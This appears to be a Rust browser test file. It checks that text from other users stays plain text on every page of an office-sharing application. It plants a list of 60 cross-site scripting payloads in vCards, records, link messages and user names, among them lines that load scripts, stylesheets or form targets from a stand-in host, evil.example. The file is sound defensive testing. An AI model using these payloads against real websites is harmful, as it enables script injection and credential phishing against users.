//! Text that wants to be more than text, in every place where a peer, a customer or a user can put some: it stays text.

use interoffice_tests::console::{PAGES, Stage};
use interoffice_tests::{enable, eventually, request, share};

use super::*;

/// Text that would become an element, a script, or a place to go to, if a page took it for more than text. Each calls `xss`, which is not
/// there: where a browser runs one, it complains.
const PAYLOADS: [&str; 60] = [
    "<script>xss()</script>",
    "<SCRIPT>xss()</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</select><script>xss()</script>",
    "</script><script>xss()</script>",
    "--><script>xss()</script><!--",
    "]]><script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()'>",
    "<img src=x:x onerror=\"xss()\"",
    "\"><img src=x onerror=xss()>",
    "'><img src=x onerror=xss()>",
    "`><img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><a href=javascript:xss()><text y=20>click</text></a></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload=xss()>#x></use></svg>",
    "<math><mi href=javascript:xss()>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=xss()>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>x</details>",
    "<marquee onstart=xss()>x</marquee>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<button formaction=javascript:xss()>x</button>",
    "<a href=javascript:xss()>click</a>",
    "<a href=\"java\tscript:xss()\">click</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:xss())}</style>",
    "<template><script>xss()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<xss style=animation-name:x onanimationend=xss()>",
    "<dialog open><form method=post action=/sign-out><button>OK</button></form></dialog>",
    "<div popover id=menu>x</div>",
    "\" onmouseover=\"xss()",
    "' onmouseover='xss()",
    "\" autofocus onfocus=\"xss()\" x=\"",
    "x onmouseover=xss() x=",
    "javascript:xss()",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss()//'>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "\\u003cimg src=x onerror=xss()\\u003e",
    "{{ constructor.constructor('xss()')() }} ${xss()} <%= xss() %> {% include \"shell.html\" %}",
    "%3Cscript%3Exss()%3C%2Fscript%3E",
];

/// A text as a card holds it.
fn escaped(text: &str) -> String {
    text.replace('\\', "\\\\").replace(',', "\\,").replace(';', "\\;")
}

/// A card that says the same in each of its lines.
fn hostile_card(index: usize, text: &str) -> String {
    let said = escaped(text);
    let lines =
        ["FN", "NOTE", "ORG", "TITLE", "NICKNAME", "EMAIL", "TEL", "URL", "IMPP", "CATEGORIES"].map(|name| format!("{name}:{said}\r\n"));
    let kind = text.replace(['"', '\t'], "");
    format!(
        "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:hostile-{index}\r\n{}TEL;TYPE=\"{kind}\":1\r\nADR:;;{said};{said};;;\r\nEND:VCARD\r\n",
        lines.concat()
    )
}

/// Puts the payloads into every text that others set; gives the places of their records.
fn plant(stage: &Stage) -> Vec<Value> {
    let ann = stage.a.user("ann");
    let cards: String = PAYLOADS.iter().enumerate().map(|(index, text)| hostile_card(index, text)).collect();
    let records = import(ann, &cards);
    assert_eq!(records.len(), PAYLOADS.len());
    for (record, text) in records.iter().zip(PAYLOADS) {
        let text = text.replace('\t', " ");
        let item = json!({ "add_related": [{ "kind": "case", "title": text, "status": text, "detail": text }] });
        assert_eq!(ann.api("PATCH", &format!("/records/{record}"), &item).status, 200, "{text}");
    }
    share(ann, &stage.place(":active"), &records);
    for (index, part) in PAYLOADS.chunks(6).enumerate() {
        let (name, text) = (format!("evil{index}"), part.join(" ").replace('\t', " "));
        enable(&stage.b, &name);
        let evil = stage.b.user(&name);
        let asked = evil.json(&["link", "request", &stage.a.at("ann"), &format!("--purpose={text}")]);
        let link = asked["link"].as_str().expect("a link").to_owned();
        let declined = request(ann, &stage.b.at(&name));
        interoffice_tests::waiting_link(evil, &declined);
        evil.cli(&["link", "decline", &declined, &format!("--reason={text}")]).ok();
        interoffice_tests::waiting_link(ann, &link);
        eventually("the request is declined", || (interoffice_tests::link_of(ann, &declined)["status"] == "Ended").then_some(()));
        let (first, last) = (format!("--first-name={}", part[0]), format!("--last-name={}", part[1]));
        stage.a.cli(&["user", "add", &name, &first, &last]).ok();
        stage.a.cli(&["group", "add", "--", &part[2].replace('\t', " ")]).ok();
        stage.a.cli(&["role", "add", "--", &part[3].replace('\t', " ")]).ok();
    }
    for (record, text) in records.iter().zip(PAYLOADS).step_by(6) {
        let text = text.replace('\t', " ");
        let noted = json!({ "kind": "note", "subject": text, "text": text });
        let path = format!("/records/{record}/activities");
        interoffice_tests::eventually("the copy is there", || (stage.b.user("bob").api("POST", &path, &noted).status == 200).then_some(()));
    }
    let message = "\"><script>xss()</script>";
    stage.a.user("nora").cli(&["access", "request", &stage.place(":private"), "--message", message]);
    stage.a.user("ann").cli(&["access", "request", &stage.place(":locked"), "--message", message]).ok();
    let own = records.iter().zip(PAYLOADS);
    own.map(|(record, text)| json!({ "visitor": "a/ann", "place": format!("/clients/{record}"), "says": text })).collect()
}

/// S-46 and V-08 let strangers' words in; whatever they are, they stay words: no element, no script, no window comes of them.
#[test]
fn text_of_others_stays_text_on_every_page() {
    if chromium("hostile").is_none() {
        return;
    }
    let stage = Stage::between("Archer \"><img src=x onerror=xss()> & <b>Advice", "Harbour <svg onload=xss()> 'Law' \"><u>");
    let mut visits = plant(&stage);
    let copies = visits.iter().step_by(6).cloned().map(|mut visit| {
        visit["visitor"] = "b/bob".into();
        visit
    });
    visits.extend(copies.collect::<Vec<_>>());
    visits.extend(
        PAGES
            .iter()
            .filter(|page| page.press.is_empty())
            .map(|page| json!({ "visitor": page.visitor, "place": stage.place(page.place), "dialogs": true })),
    );
    for (index, _) in PAYLOADS.chunks(6).enumerate() {
        visits.push(json!({ "visitor": "a/rita", "place": format!("/people/evil{index}"), "dialogs": true }));
    }
    let links = stage.a.user("ann").links("--receiving-mine");
    let ended = links.iter().filter_map(|link| link["link"].as_str());
    visits.extend(ended.map(|link| json!({ "visitor": "a/ann", "place": format!("/links/{link}") })));
    let of = json!({ "visits": visits, "payloads": PAYLOADS.as_slice() });
    tell_of("hostile", MOUSE, (&stage.a, &["ann", "nora", "rita", "cleo"]), (&stage.b, &["bob", "omar"]), &of);
}
